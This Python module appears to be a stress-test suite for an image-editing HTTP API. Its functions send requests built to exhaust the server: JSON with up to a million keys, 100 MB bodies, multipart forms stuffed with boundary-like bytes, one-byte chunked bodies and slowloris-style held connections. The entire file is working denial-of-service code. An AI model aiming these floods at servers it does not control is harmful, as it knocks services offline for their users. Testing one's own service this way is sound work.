"""Requests that are much work to read: names, fields, sizes, forms and chunks."""

from __future__ import annotations

import contextlib
import json
import socket

from attacks.files import noise
from attacks.target import Target, text


def _names(number: int) -> bytes:
    return ("{" + ",".join(f'"k{i}":0' for i in [*range(number), number - 1]) + "}").encode()


def names_twice(target: Target) -> None:
    """40,000 names, the last one twice."""
    target.post("/v1/edit", _names(40_000), threads=4)


def unknown_fields(target: Target) -> None:
    """A million fields that no dialect has, and 900, which are few enough to be read."""
    few = json.dumps({f"{i:0900}": "a" * 1000 for i in range(900)}).encode()
    target.post("/v1/edit", _names(1_000_000), few)


def large_bodies(target: Target, *, side: int = 2500) -> None:
    """Legal bodies of 100 MB: four pictures without compression, of jobs whose time is over before they are drawn."""
    fields = ("input_image", "input_image_2", "input_image_3", "input_image_4")
    target.post("/v1/edit", target.body(timeout=0.001, **dict.fromkeys(fields, text(noise(side, compress_level=0)))))


def large_nonsense(target: Target, *, size: int = 100_000_000) -> None:
    """100 MB of one text, of spaces, of digits, of quotes, and of pictures that are none."""
    pictures = {f"input_image_{i}": "A" * (size // 8) for i in range(2, 9)} | {"input_image": "A" * (size // 8)}
    target.post(
        "/v1/edit",
        json.dumps({"prompt": "a" * size}).encode(),
        b'{"prompt": "a"' + b" " * size + b"}",
        b'{"seed": ' + b"1" * size + b"}",
        b'"' * size,
        json.dumps({"prompt": "a", **pictures}).encode(),
        threads=1,
    )


def large_forms(target: Target, *, size: int = 75_000_000) -> None:
    """Forms of 75 MB whose pictures are full of what begins like a boundary."""
    head = b'--B\r\nContent-Disposition: form-data; name="image"; filename="a.png"\r\n\r\n'
    part = head + b"\r\n--" * (size // 20) + b"\r\n"
    target.post("/v1/images/edits", part * 5 + b"--B--\r\n", kind="multipart/form-data; boundary=B")


def crumbs(target: Target, *, size: int = 200_000) -> None:
    """Bodies in chunks of a byte."""
    head = target.head("/v1/edit", "Content-Type: application/json", "Transfer-Encoding: chunked", "")
    data = head + b"1\r\n \r\n" * size + b"0\r\n\r\n"

    def send(_: object) -> None:
        with target.connect() as connection:
            with contextlib.suppress(ConnectionError):
                connection.sendall(data)
            with contextlib.suppress(ConnectionError):
                target.count(connection.recv(12).decode()[-3:])

    target.repeat(send)


def slow_bodies(target: Target, *, number: int = 200) -> None:
    """Bodies of 1 MB of which a byte comes now and then."""
    head = target.head("/v1/edit", "Content-Type: application/json", "Content-Length: 1000000", "")
    held: list[socket.socket] = []

    def make() -> socket.socket:
        connection = target.connect()
        connection.sendall(head + b'{"prompt": "')
        for other in held:
            with contextlib.suppress(OSError):
                other.send(b"a")
        held.append(connection)
        return connection

    target.hold(number, make)


def slow_large_bodies(target: Target, *, number: int = 12, size: int = 100_000_000) -> None:
    """Bodies of 100 MB of which the last byte does not come."""
    head = target.head("/v1/edit", "Content-Type: application/json", f"Content-Length: {size + 1}", "")
    data = b" " * (1 << 20)

    def make() -> socket.socket:
        connection = target.connect()
        connection.sendall(head)
        with contextlib.suppress(OSError):
            for _ in range(size >> 20):
                if target.stop.is_set():
                    break
                connection.sendall(data)
        return connection

    target.hold(number, make)
